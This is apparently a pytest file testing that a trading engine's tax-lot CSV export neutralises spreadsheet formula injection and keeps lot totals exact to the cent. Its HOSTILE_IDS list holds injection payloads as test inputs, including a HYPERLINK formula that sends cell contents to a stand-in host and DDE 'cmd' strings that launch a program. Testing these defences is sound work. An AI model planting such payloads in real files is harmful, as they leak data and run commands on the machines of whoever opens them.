"""The tax file (`python -m engine tax-lots`, the Orders page's download) from a real SQLite ledger written
as the executor writes it (issue 86, items 5 and 6):

- it opens in a spreadsheet as data: a market's question holding a bare carriage return and `=1+1`
  stays in its one cell, ids taken from a listing as `=HYPERLINK(...)`, `+cmd|...`, `@SUM(...)` or with
  full-width signs are marked as text, every field is quoted, rows end with CRLF (RFC 4180); the money
  stays numbers, a loss a negative one;
- the rows of one sale split over several lots add up to what the sale paid, to the cent ($7.17 over two
  lots gave two rows of $3.59, $7.18 in all), and the rows of one lot to what it cost."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest

from contracts.domain import Outcome, Side, Tif
from contracts.order_status import OrderStatus
from contracts.spreadsheet_csv import FORMULA_STARTS, cell
from engine.execution import store
from engine.venues.base import TradeStatus
from reports.tax_lots import COLUMNS, csv_bytes, tax_export
from tests.desk import Desk, make_desk
from tests.execution.fakes import SH, p

QUESTION = "Will it rain?\r=1+1,\"quoted\"\nand more"
HOSTILE_IDS = ['=HYPERLINK("http://x.example/?d="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
               "\t=1+1", "\r=1+1", "-2+3+cmd|' /C calc'!A0", "\uff1d1+1", "\uff0b1", "\uff0d1+1", "\uff201",
               "  =1+1"]


def _fill(desk: Desk, n: int, cid: str, token: str, side: Side, price: float, shares: int) -> None:
    with desk.executor.tx() as conn:
        order = store.insert_order(conn, client_id=f"o{cid}{n}", venue_order_id=f"v{cid}{n}", mode="paper",
                                   strategy="s", condition_id=cid, token_id=token, outcome=Outcome.YES, side=side,
                                   price=p(price), size=shares * SH, tif=Tif.GTC, post_only=False, payload=None,
                                   reason="test", now=desk.clock(), status=OrderStatus.FILLED, filled=shares * SH)
        store.write_fill(conn, store.FillWrite(f"t{cid}{n}", order, p(price), shares * SH, 0, "TAKER",
                                                TradeStatus.CONFIRMED, desk.clock()), desk.clock())


def _market(desk: Desk, cid: str, question: str) -> None:
    with desk.db.write() as conn:
        conn.exec_driver_sql(
            """INSERT INTO markets (condition_id, question, slug, yes_token, no_token, tick, min_size, neg_risk,
                   end_at, volume, volume_24h, liquidity, tags, tradable, first_seen_at, updated_at)
               VALUES (?, ?, 's', 'y', 'n', 10000, 5000000, 0, 0, 0, 0, 0, '[]', 1, 0, 0)""", (cid, question))


def _ledger(tmp_path: Path) -> Desk:
    """Two lots of 5 shares sold together for $7.17 (the report's case), a lot sold at a loss, and a token per
    hostile id, its market named with a bare carriage return."""
    desk = make_desk(tmp_path / "trader.db")
    _market(desk, "c-split", QUESTION)
    _fill(desk, 1, "c-split", "tok-split", Side.BUY, 0.40, 5)
    desk.clock.advance(1_000)
    _fill(desk, 2, "c-split", "tok-split", Side.BUY, 0.60, 5)
    desk.clock.advance(1_000)
    _fill(desk, 3, "c-split", "tok-split", Side.SELL, 0.717, 10)
    for n, hostile in enumerate(HOSTILE_IDS):
        _market(desk, hostile, hostile)
        _fill(desk, 10 + n, hostile, hostile, Side.BUY, 0.50, 2)
        desk.clock.advance(1_000)
        _fill(desk, 40 + n, hostile, hostile, Side.SELL, 0.30, 2)  # a loss: -0.40
    return desk


@pytest.fixture
def exported(tmp_path: Path) -> tuple[bytes, list[list[str]]]:
    desk = _ledger(tmp_path)
    try:
        data = csv_bytes(tax_export(desk.db, 2023, "paper"))
    finally:
        desk.db.dispose()
    return data, list(csv.reader(io.StringIO(data.decode(), newline="")))


def test_no_cell_reads_as_a_formula_and_every_row_stays_whole(exported: tuple[bytes, list[list[str]]]) -> None:
    data, rows = exported
    assert rows[0] == list(COLUMNS) and len(rows) == 1 + 2 + len(HOSTILE_IDS)
    assert all(len(row) == len(COLUMNS) for row in rows)
    for row in rows[1:]:
        for value in row:
            assert value[:1] not in FORMULA_STARTS and value.lstrip()[:1] not in FORMULA_STARTS or \
                _is_number(value), value
    split = [row for row in rows if row[-1] == "tok-split"]
    assert split and all(QUESTION in row[0] for row in split)  # the question whole, in its cell
    assert sorted(row[-1] for row in rows[1:] if row[-1] != "tok-split") == sorted("'" + h for h in HOSTILE_IDS)
    # RFC 4180: every field quoted (a quote inside doubled), CRLF between rows; the carriage return inside
    # the question is inside a quoted field, never a row's end.
    records = data.decode().split("\r\n")
    assert records[-1] == "" and all(r.startswith('"') and r.endswith('"') for r in records[:-1] if "\r" not in r)
    assert data.count(b"\r\n") == len(rows)


def test_the_money_stays_numbers_a_loss_a_negative_one(exported: tuple[bytes, list[list[str]]]) -> None:
    _, rows = exported
    losses = [row for row in rows[1:] if row[-1] != "tok-split"]
    assert {(row[3], row[4], row[5]) for row in losses} == {("0.60", "1.00", "-0.40")}
    assert all(_is_number(row[i]) for row in rows[1:] for i in (3, 4, 5, 9))


def test_a_sale_over_two_lots_adds_up_to_what_it_paid(exported: tuple[bytes, list[list[str]]]) -> None:
    _, rows = exported
    split = [row for row in rows if row[-1] == "tok-split"]
    assert [(row[3], row[4], row[5], row[9]) for row in split] == [("3.59", "2.00", "1.59", "5"),
                                                                   ("3.58", "3.00", "0.58", "5")]
    assert sum(Decimal(row[3]) for row in split) == Decimal("7.17")  # what the sale paid (10 at 0.717)


def test_a_cell_is_text_unless_it_is_a_plain_number() -> None:
    assert [cell(v) for v in ("-12.05", "0.00", "10", "-3")] == ["-12.05", "0.00", "10", "-3"]
    for formula in ("-1+2", "-", "+1", "=1", "@A1", "\t1", "\r1", "\uff0d12.05", " -1", "\u3000=1"):
        assert cell(formula) == "'" + formula, formula
    assert [cell(v) for v in ("", "plain", "1e5", "1,000")] == ["", "plain", "1e5", "1,000"]


def _is_number(value: str) -> bool:
    try:
        Decimal(value)
    except ArithmeticError:
        return False
    return value.strip() == value and "e" not in value.lower()
